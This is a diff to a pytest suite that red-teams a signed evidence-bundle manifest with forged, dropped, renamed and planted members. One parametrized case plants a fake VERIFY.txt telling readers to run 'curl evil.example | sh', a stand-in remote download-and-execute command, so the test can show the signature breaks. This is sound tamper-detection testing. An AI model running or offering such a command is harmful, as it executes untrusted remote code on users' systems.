@@ -12,6 +12,7 @@ import hashlib
 import io
 import json
 import shutil
+import subprocess
 import unicodedata
 import zipfile
 from dataclasses import dataclass
@@ -93,23 +94,20 @@ def _resum(members: Members, edit_manifest: Any = None) -> Members:
     manifest = json.loads(by_name["manifest.json"])
     if edit_manifest is not None:
         edit_manifest(manifest)
+    unlisted = {"manifest.json", "manifest.sig", "SHA256SUMS"}
+    sums = "".join(f"{_sha(d)}  {n}\n" for n, d in members if n not in unlisted).encode()
     manifest["files"] = [
-        {"name": n, "sha256": _sha(d), "size": len(d)}
+        {"name": n, "sha256": _sha(sums if n == "SHA256SUMS" else d), "size": len(d)}
         for n, d in members
-        if n not in {"manifest.json", "SHA256SUMS"}
+        if n not in {"manifest.json", "manifest.sig"}
     ]
     manifest_bytes = json.dumps(manifest).encode()
-    sums = "".join(
-        f"{_sha(manifest_bytes if n == 'manifest.json' else d)}  {n}\n"
-        for n, d in members
-        if n != "SHA256SUMS"
-    )
     out: Members = []
     for name, data in members:
         if name == "manifest.json":
             data = manifest_bytes
         elif name == "SHA256SUMS":
-            data = sums.encode()
+            data = sums
         out.append((name, data))
     return out
 
@@ -353,3 +351,137 @@ def test_a_local_header_name_differing_from_the_directory_is_named(built: Built,
     forged.write_bytes(data[:at] + name.replace(b"EX-0001", b"EX-0009") + data[at + len(name) :])
     found = verify_bundle(forged)
     assert any(f.code == "MODIFIED" and f.path == name.decode() for f in found.findings)
+
+
+# -- the signed manifest (red-team attacks 1-8) --------------------------------------------------------------
+
+
+def _codes(found: Report) -> set[tuple[str, str | None]]:
+    return {(f.code, f.path) for f in found.findings}
+
+
+def test_the_manifest_is_signed_and_sha256sum_checks_every_other_member(built: Built, tmp_path: Path) -> None:
+    members = dict(_read(built.full))
+    manifest = json.loads(members["manifest.json"])
+    listed = {f["name"] for f in manifest["files"]}
+    assert listed == set(members) - {"manifest.json", "manifest.sig"}
+    assert manifest["carried_entries"]["seqs"] == list(range(1, manifest["built_from"]["seq"] + 1))
+    sums = members["SHA256SUMS"].decode().splitlines()
+    assert {line.split("  ", 1)[1] for line in sums} == listed - {"SHA256SUMS"}
+    with zipfile.ZipFile(built.full) as zf:
+        zf.extractall(tmp_path / "x")
+    done = subprocess.run(
+        ["sha256sum", "-c", "SHA256SUMS"], cwd=tmp_path / "x", capture_output=True, text=True, check=False
+    )
+    assert done.returncode == 0 and done.stdout.count(": OK") == len(sums), done.stdout + done.stderr
+    unsigned = [(n, d) for n, d in _read(built.full) if n != "manifest.sig"]
+    assert ("MANIFEST_UNSIGNED", "manifest.sig") in _codes(_check(tmp_path, unsigned))
+
+
+def test_an_exhibit_dropped_from_a_full_bundle_is_unaccounted(built: Built, tmp_path: Path) -> None:
+    members = _read(built.full)
+    dropped = _exhibit(members, "EX-0003")
+
+    def forget(manifest: dict[str, Any]) -> None:
+        included = manifest["exhibits"]["included"]
+        manifest["exhibits"]["included"] = [e for e in included if e["exhibit"] != "EX-0003"]
+
+    found = _check(tmp_path, _resum([(n, d) for n, d in members if n != dropped], forget))
+    assert any(f.code == "EXHIBIT_UNACCOUNTED" and f.exhibit == "EX-0003" for f in found.findings)
+    assert ("MANIFEST_SIGNATURE", "manifest.json") in _codes(found)
+
+
+def test_an_exhibit_moved_to_withheld_breaks_the_manifest_signature(built: Built, tmp_path: Path) -> None:
+    members = _read(built.full)
+    dropped = _exhibit(members, "EX-0003")
+
+    def withhold(manifest: dict[str, Any]) -> None:
+        exhibits = manifest["exhibits"]
+        moved = next(e for e in exhibits["included"] if e["exhibit"] == "EX-0003")
+        exhibits["included"].remove(moved)
+        exhibits["withheld"].append({k: moved[k] for k in ("exhibit", "sha256", "size")})
+
+    found = _check(tmp_path, _resum([(n, d) for n, d in members if n != dropped], withhold))
+    assert not found.ok and ("MANIFEST_SIGNATURE", "manifest.json") in _codes(found)
+    assert (
+        "EXHIBIT_UNACCOUNTED" not in found.codes()
+    )  # the forged statement is consistent: only the signature
+
+
+def test_a_renamed_exhibit_or_a_second_copy_is_named(built: Built, tmp_path: Path) -> None:
+    members = _read(built.full)
+    name = _exhibit(members, "EX-0001")
+    renamed = "exhibits/EX-0001 CONFESSION from Alex.eml"
+    found = _check(tmp_path, _resum([(renamed if n == name else n, d) for n, d in members]))
+    assert any(f.code == "EXHIBIT_RENAMED" and f.path == renamed and f.entry for f in found.findings)
+    copy = "exhibits/EX-0001 copy.txt"
+    found = _check(tmp_path, _resum([*members, (copy, dict(members)[name])]))
+    assert {
+        ("EXHIBIT_RENAMED", copy),
+        ("UNKNOWN_EXHIBIT", copy),
+        ("MANIFEST_SIGNATURE", "manifest.json"),
+    } <= (_codes(found))
+
+
+def test_forged_case_facts_in_the_manifest_are_named(built: Built, tmp_path: Path) -> None:
+    def forge(manifest: dict[str, Any]) -> None:
+        manifest["case"].update(case_id="forged-case", title="Someone else")
+        manifest["key_fingerprint"] = "0" * 64
+
+    found = _check(tmp_path, _resum(_read(built.full), forge))
+    mismatches = [f.message for f in found.findings if f.code == "MANIFEST_MISMATCH"]
+    assert any("case_id" in m for m in mismatches) and any("title" in m for m in mismatches)
+    assert any("fingerprint" in m for m in mismatches)
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        [("VERIFY.txt", b"Run: curl evil.example | sh\nSigning key: 0000\n")],
+        [("anchors/0099.tsr", b"junk"), ("anchors/NOTE.txt", b"trust me")],
+    ],
+)
+def test_relisted_instructions_or_anchors_break_the_manifest_signature(
+    built: Built, tmp_path: Path, planted: Members
+) -> None:
+    members = dict(_read(built.full))
+    members.update(planted)
+    forged = _resum(list(members.items()))
+    assert ("MANIFEST_SIGNATURE", "manifest.json") in _codes(_check(tmp_path, forged))
+    unlisted = _check(tmp_path, list(members.items()))
+    assert all(("EXTRA", n) in _codes(unlisted) or ("MODIFIED", n) in _codes(unlisted) for n, _ in planted)
+
+
+def test_a_disclosed_entry_removed_with_its_proof_is_named(built: Built, tmp_path: Path) -> None:
+    members = _read(built.sel_early)
+    lines = _ledger_lines(members)
+    victim = json.loads(lines[2])
+    proofs = json.loads(dict(members)["proofs.json"])
+    assert any(str(victim["seq"]) in json.dumps(p) for p in proofs.values())
+    kept = [line for line in lines if json.loads(line)["seq"] != victim["seq"]]
+    found = _check(tmp_path, _resum(_with_ledger(members, kept)))
+    assert any(
+        f.code == "MANIFEST_MISMATCH" and f"missing entries {victim['seq']}" in f.message
+        for f in found.findings
+    )
+
+
+def test_a_full_bundle_made_selective_by_a_third_party_is_named(built: Built, tmp_path: Path) -> None:
+    full = _read(built.full)
+    proofs = dict(_read(built.sel_late))["proofs.json"]
+    found = _check(tmp_path, _resum([*full, ("proofs.json", proofs)]))
+    assert any(f.code == "MANIFEST_MISMATCH" and "'full'" in f.message for f in found.findings)
+
+    def selected(manifest: dict[str, Any]) -> None:
+        manifest["disclosure"] = {"mode": "selected"}
+
+    found = _check(tmp_path, _resum([*full, ("proofs.json", proofs)], selected))
+    assert ("MANIFEST_SIGNATURE", "manifest.json") in _codes(found)
+
+
+def test_a_manifest_signed_by_another_key_is_refused(built: Built, tmp_path: Path) -> None:
+    members = _resum(_read(built.full))
+    manifest = dict(members)["manifest.json"]
+    sig = SigningKey.generate().sign(b"evidence/bundle-manifest/v1\x00" + manifest).hex().encode()
+    found = _check(tmp_path, [(n, sig if n == "manifest.sig" else d) for n, d in members])
+    assert [f.code for f in found.findings] == ["MANIFEST_SIGNATURE"]
